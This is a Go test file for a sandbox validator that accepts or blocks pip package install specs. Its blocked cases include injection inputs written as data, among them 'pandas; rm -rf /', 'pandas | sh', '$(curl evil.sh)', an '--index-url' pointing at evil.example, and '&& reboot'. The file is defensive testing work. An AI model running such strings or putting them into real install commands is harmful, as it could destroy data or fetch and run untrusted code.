package sandbox

import "testing"

func TestGuardInstallSpec(t *testing.T) {
	tests := []struct {
		name    string
		spec    string
		blocked bool
	}{
		// Safe specs
		{"single package", "pandas", false},
		{"multiple packages", "pandas matplotlib numpy", false},
		{"pinned version", "pandas==2.2.0", false},
		{"version range", "numpy>=1.26", false},
		{"compatible release", "requests~=2.31", false},
		{"extras", "pandas[excel]", false},
		{"dotted name", "ruamel.yaml", false},
		{"underscored name", "typing_extensions", false},

		// Blocked specs
		{"empty", "", true},
		{"whitespace only", "   ", true},
		{"command chaining", "pandas; rm -rf /", true},
		{"pipe", "pandas | sh", true},
		{"subshell", "$(curl evil.sh)", true},
		{"backtick", "`reboot`", true},
		{"pip option", "--index-url http://evil.example", true},
		{"short option", "-e .", true},
		{"path install", "../somewhere", true},
		{"url install", "git+https://example.com/repo.git", true},
		{"quoting", `pandas"`, true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			reason := GuardInstallSpec(tt.spec)
			if blocked := reason != ""; blocked != tt.blocked {
				if tt.blocked {
					t.Errorf("spec %q should be blocked", tt.spec)
				} else {
					t.Errorf("spec %q should be allowed, blocked with: %s", tt.spec, reason)
				}
			}
		})
	}
}

func TestIsInstallSpecSafe(t *testing.T) {
	if !IsInstallSpecSafe("pandas") {
		t.Error("'pandas' should be safe")
	}
	if IsInstallSpecSafe("pandas && reboot") {
		t.Error("'pandas && reboot' should not be safe")
	}
}
